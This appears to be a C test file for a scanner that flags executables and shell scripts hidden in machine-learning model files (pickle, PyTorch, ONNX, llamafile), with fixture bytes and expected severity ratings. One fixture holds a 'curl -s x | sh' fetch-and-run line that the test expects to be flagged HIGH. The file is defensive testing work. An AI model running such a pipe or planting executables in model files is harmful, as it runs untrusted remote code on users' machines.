#include "proto.h"
#include "scan_model.h"

#define ELF "\x7f\x45LF\2\1\1\0\0\0\0\0\0\0\0\0\3\0\x3e\0\1\0\0\0\0\0\0\0\0\0\0\0"

static unsigned worst(struct arena *a, const char *name, str bytes)
{
	return test_worst(test_scan_model(a, name, bytes));
}

TEST(executable_by_place)
{
	str tensor = PROTO(a, 5, proto_int(a, 1, 80), proto_int(a, 2, 2), proto_str(a, 8, S("w")),
			   proto_str(a, 9,
				     S(ELF "0123456789012345678901234567890123456789"
					   "01234567")));
	str onnx = PARTS(a, proto_int(a, 1, 8), proto_str(a, 7, tensor), PROTO(a, 8, S("")));
	struct file_result *r;

	CHECK_INT(worst(a, "libx.so", S(ELF)), 0);
	CHECK_INT(worst(a, "run.sh", S("#!/bin/sh\necho\n")), 0);
	CHECK_INT(worst(a, "module.pyc", S("\xa7\r\r\n\0\0\0\0\0\0\0\0\0\0\0\0\xe3\0\0")), 0);
	r = test_scan_model(a, "model.pt", S(ELF));
	CHECK(test_found(r, "MD401", NULL) != NULL);
	CHECK_INT(test_worst(r), HIGH);
	CHECK(test_found(test_scan_model(a, "w.pkl", S("#!/bin/sh\necho\n")), "MD401", NULL));
	r = test_scan_model(a, "m.onnx", onnx);
	CHECK(test_found(r, "MD400", "w") != NULL);
}

static str llamafile(struct arena *a, str script)
{
	struct buf b = buf_in(a);

	buf_add(&b, S("MZqFpD='\n"));
	while (b.n < 0x3c)
		buf_byte(&b, ' ');
	buf_u32(&b, 0x44);
	while (b.n < 0x44)
		buf_byte(&b, ' ');
	buf_add(&b, S("PE\0\0\n'\n"));
	buf_add(&b, script);
	return buf_str(&b);
}

TEST(llamafile)
{
	str honest = llamafile(a, S("o=\"$(command -v ape)\"\nexec \"$o\" \"$0\" \"$@\"\n"));

	CHECK_INT(worst(a, "m.llamafile", honest), INFO);
	CHECK_INT(worst(a, "m.llamafile", llamafile(a, S("true; exit\n"))), HIGH);
	CHECK_INT(worst(a, "m", llamafile(a, S("exec ape; curl -s x | sh\n"))), HIGH);
	CHECK_INT(worst(a, "m", S("MZqFpD='\n\n'\nexec ape\n")), HIGH);
}
